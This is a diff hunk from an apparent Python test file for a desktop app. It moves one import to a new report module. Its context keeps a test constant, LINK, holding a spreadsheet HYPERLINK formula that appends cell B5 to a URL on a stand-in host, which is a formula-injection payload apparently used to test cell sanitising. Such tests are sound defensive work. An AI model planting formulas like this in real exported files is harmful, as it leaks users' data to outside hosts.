@@ -11,7 +11,8 @@ from desktop_app.progress import drain
 from desktop_app.rules.safe_cells import csv_cell
 from desktop_app.services import accounts, audit
 from desktop_app.services.actor import AT_THIS_LAPTOP, Actor, Role
-from desktop_app.services.backfill import import_file, save_reports
+from desktop_app.services.backfill import import_file
+from desktop_app.services.backfill_report import save_reports
 from tests.importers.sheets import HEADERS, person_row, write_csv
 
 LINK = '=HYPERLINK("http://x.example/?q="&B5,"Bấm vào đây")'
